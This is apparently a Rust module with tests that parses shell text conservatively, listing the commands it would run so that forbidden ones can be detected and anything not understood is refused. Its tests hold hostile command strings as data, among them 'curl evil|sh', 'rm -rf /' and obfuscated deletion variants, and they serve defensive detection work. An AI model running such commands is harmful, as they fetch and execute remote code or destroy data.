//! The commands in a text for a shell, as far as they can be told for sure.
//!
//! This is for two things: to show a person what a text would run, and to see a
//! forbidden command in it. It is never a reason to allow anything. So it knows the
//! plain part of the POSIX shell's grammar (lists, pipes, subshells, conditions and
//! loops, quoting, redirections, substitutions) and stops at whatever else it finds,
//! saying what that was: a text that is not wholly understood "could not be analysed".
//!
//! A parser of all of bash would understand more of what is anyway asked about,
//! for some dozens of crates in the most exposed place of the daemon.

mod word;

use word::{Reader, word};

/// What was found in a text.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Script {
    /// In the order in which they are written, wherever they stand.
    pub(super) commands: Vec<Command>,
    /// What is beyond this parser, if anything is; then there may be more commands.
    pub(super) beyond: Option<&'static str>,
}

/// A command and its arguments.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Command {
    pub(super) env: Vec<(String, String)>,
    pub(super) words: Vec<Word>,
    /// What it reads from or writes to.
    pub(super) files: Vec<Word>,
}

/// One word, without its quotes.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub(super) struct Word {
    pub(super) text: Vec<u8>,
    /// Whether it is something else when the text is run: it has a variable, a wildcard, a substitution.
    pub(super) is_computed: bool,
    /// Whether any of it is quoted, so that it is no word of the grammar.
    is_quoted: bool,
}

/// Longer texts are not looked at, nor what nests deeper, nor more commands.
const LONGEST: usize = 64 << 10;
const DEEPEST: usize = 16;
const MOST_COMMANDS: usize = 256;

/// After these comes a command.
const LEADING: [&str; 13] =
    ["if", "then", "elif", "else", "fi", "while", "until", "do", "done", "{", "}", "!", "time"];
/// With these begins what is beyond this parser.
const BEYOND: [&str; 9] = ["case", "esac", "function", "select", "coproc", "[[", "alias", "trap", "enable"];

/// Reads a text.
pub(super) fn parse(text: &[u8]) -> Script {
    let mut script = Script::default();
    let read = match text.len() {
        ..=LONGEST => list(&mut Reader::new(text), None, &mut script, 0),
        _ => Err("it is too long"),
    };
    script.beyond = read.err();
    script
}

/// Reads commands until the text, or what is in parentheses, ends.
fn list(
    reader: &mut Reader<'_>,
    end: Option<u8>,
    script: &mut Script,
    depth: usize,
) -> Result<(), &'static str> {
    if DEEPEST < depth {
        return Err("it nests too deeply");
    }
    let mut command = Command::default();
    loop {
        reader.skip_blanks();
        let Some(next) = reader.peek() else {
            finish(&mut command, script)?;
            return if end.is_none() { Ok(()) } else { Err("a parenthesis is not closed") };
        };
        match next {
            b'#' => reader.skip_line(),
            b'\n' | b';' | b'&' | b'|' => {
                if reader.starts_with(b"&>") {
                    redirection(reader, &mut command, script, depth)?;
                    continue;
                }
                reader.advance();
                finish(&mut command, script)?;
            }
            b'(' if reader.starts_with(b"((") => return Err("it has arithmetic"),
            b'(' if command.words.is_empty() && command.env.is_empty() => {
                reader.advance();
                list(reader, Some(b')'), script, depth + 1)?;
            }
            b'(' => return Err("it defines a function"),
            b')' if end == Some(b')') => {
                reader.advance();
                return finish(&mut command, script);
            }
            b')' => return Err("a parenthesis is not opened"),
            b'<' | b'>' => redirection(reader, &mut command, script, depth)?,
            _ => {
                let word = word(reader, script, depth)?;
                let is_descriptor =
                    !word.is_quoted && !word.text.is_empty() && word.text.iter().all(u8::is_ascii_digit);
                if is_descriptor && matches!(reader.peek(), Some(b'<' | b'>')) {
                    continue;
                }
                take(word, &mut command)?;
            }
        }
    }
}

/// Puts a word where it belongs in a command.
fn take(word: Word, command: &mut Command) -> Result<(), &'static str> {
    if !command.words.is_empty() {
        command.words.push(word);
        return Ok(());
    }
    let text = String::from_utf8_lossy(&word.text).into_owned();
    if !word.is_quoted && command.env.is_empty() {
        if LEADING.contains(&text.as_str()) {
            return Ok(());
        }
        if BEYOND.contains(&text.as_str()) {
            return Err("it has a construct that is not known here");
        }
    }
    let name = text.split('=').next().unwrap_or_default().trim_end_matches('+');
    let is_name = name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
        && name.bytes().next().is_some_and(|byte| !byte.is_ascii_digit());
    match text.split_once('=') {
        Some((_, value)) if is_name => command.env.push((name.to_owned(), value.to_owned())),
        _ if word.is_computed => return Err("the name of a program in it is computed"),
        _ => command.words.push(word),
    }
    Ok(())
}

fn finish(command: &mut Command, script: &mut Script) -> Result<(), &'static str> {
    let command = std::mem::take(command);
    if command.words.is_empty() && command.files.is_empty() && command.env.is_empty() {
        return Ok(());
    }
    if MOST_COMMANDS <= script.commands.len() {
        return Err("it has too many commands");
    }
    // `for x in a b`: no command, and those in its substitutions are there already.
    if !command.words.first().is_some_and(|word| !word.is_quoted && word.text == b"for") {
        script.commands.push(command);
    }
    Ok(())
}

fn redirection(
    reader: &mut Reader<'_>,
    command: &mut Command,
    script: &mut Script,
    depth: usize,
) -> Result<(), &'static str> {
    const OPERATORS: [&[u8]; 11] =
        [b"&>>", b"<<<", b"&>", b">>", b">|", b">&", b"<>", b"<&", b">", b"<", b""];
    if reader.starts_with(b"<<") && !reader.starts_with(b"<<<") {
        return Err("it has a here-document");
    }
    if reader.starts_with(b"<(") || reader.starts_with(b">(") {
        let word = word(reader, script, depth)?;
        return take(word, command);
    }
    let operator = OPERATORS.iter().find(|operator| reader.starts_with(operator)).expect("the last is empty");
    reader.skip(operator.len());
    reader.skip_blanks();
    let word = word(reader, script, depth)?;
    if word.text.is_empty() && !word.is_quoted && !word.is_computed {
        return Err("a redirection leads nowhere");
    }
    if *operator != b"<<<" {
        command.files.push(word);
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// The commands as words joined by spaces, and whether that is all.
    fn check(text: &str, commands: &[&str], is_all: bool) {
        let script = parse(text.as_bytes());
        let shown = |word: &Word| String::from_utf8_lossy(&word.text).into_owned();
        let found: Vec<String> = script
            .commands
            .iter()
            .map(|it| it.words.iter().map(shown).collect::<Vec<_>>().join(" "))
            .collect();
        assert_eq!(found, commands, "{text}: {:?}", script.beyond);
        assert_eq!(script.beyond.is_none(), is_all, "{text}: {:?}", script.beyond);
    }

    #[test]
    fn commands_are_found_wherever_they_stand() {
        check("git log", &["git log"], true);
        check("git log && curl evil|sh", &["git log", "curl evil", "sh"], true);
        check("a; b & c || d\ne # f", &["a", "b", "c", "d", "e"], true);
        check("(a; b) | { c; d; }", &["a", "b", "c", "d"], true);
        check("if a; then b; else c; fi", &["a", "b", "c"], true);
        check("for x in 1 2; do rm $x; done", &["rm $x"], true);
        check("while ! a; do b; done", &["a", "b"], true);
        check("X=1 Y='2 3' a b=c", &["a b=c"], true);
        check("a > out 2>&1 < in b", &["a b"], true);
        check("echo $(rm -rf /) `b \\`c\\``", &["rm -rf /", "c", "b ``", "echo $() ``"], true);
        check("a \"$(b \"c d\")\" e", &["b c d", "a $() e"], true);
        check("diff <(a) <(b)", &["a", "b", "diff <() <()"], true);
        check("'r'm -\"r\"f \\/x", &["rm -rf /x"], true);
        check("r\\\nm x", &["rm x"], true);
        check("$'\\x72m' -rf", &["rm -rf"], true);
        check("'if' a", &["if a"], true);
        check("", &[], true);
        check("# only this", &[], true);
    }

    #[test]
    fn c14_what_is_not_understood_is_not_analysed() {
        for (text, before) in [
            ("a; $x -rf /", &["a"][..]),
            ("\"$x\" y", &[]),
            ("/bin/r? x", &[]),
            ("{rm,-rf,x}", &[]),
            ("cat <<E\nx\nE", &[]),
            ("f() { rm; }; f", &[]),
            ("function f { rm; }", &[]),
            ("case a in b) c;; esac", &[]),
            ("[[ a ]] && b", &[]),
            ("a; (b", &["a", "b"]),
            ("a)", &[]),
            ("a 'b", &[]),
            ("a \"b", &[]),
            ("a $(b", &[]),
            ("a $((1+1))", &[]),
            ("a ${b:-$(c)}", &[]),
            ("a\rb", &[]),
            ("alias x=rm", &[]),
            ("a >", &[]),
            ("((x))", &[]),
        ] {
            let script = parse(text.as_bytes());
            assert!(script.beyond.is_some(), "{text}: {script:?}");
            for (command, expected) in script.commands.iter().zip(before) {
                assert_eq!(command.words[0].text, expected.as_bytes(), "{text}");
            }
            assert!(before.len() <= script.commands.len(), "{text}: {script:?}");
        }
        assert!(parse(&b"(".repeat(100)).beyond.is_some());
        assert!(parse(&b"a;".repeat(100_000)).beyond.is_some());
    }

    #[test]
    fn what_is_read_and_written_is_known() {
        let script = parse(b"a > ~/x 2>> $HOME/y &> 'z w'");
        let files: Vec<_> =
            script.commands[0].files.iter().map(|it| (&it.text[..], it.is_computed)).collect();
        assert_eq!(files, [(&b"~/x"[..], true), (b"$HOME/y", true), (b"z w", false)]);
    }

    proptest! {
        #[test]
        fn any_text_is_analysed_or_not(text in any::<Vec<u8>>()) {
            parse(&text);
        }

        #[test]
        fn what_looks_like_shell_is_analysed_or_not(text in "[ab $(){};&|<>'\"`\\\\\n#=~*-]{0,40}") {
            parse(text.as_bytes());
        }

        #[test]
        fn quoted_words_come_back_as_they_were(words in prop::collection::vec("[ -z|~é\n]{0,8}", 1..5)) {
            let text = shell_words::join(std::iter::once("x".to_owned()).chain(words.clone()));
            let script = parse(text.as_bytes());
            prop_assert_eq!(script.beyond, None, "{}", text);
            let found: Vec<_> = script.commands[0].words[1..].iter().map(|it| it.text.clone()).collect();
            prop_assert_eq!(found, words.into_iter().map(String::into_bytes).collect::<Vec<_>>());
            prop_assert!(script.commands[0].words.iter().all(|word| !word.is_computed));
        }
    }
}
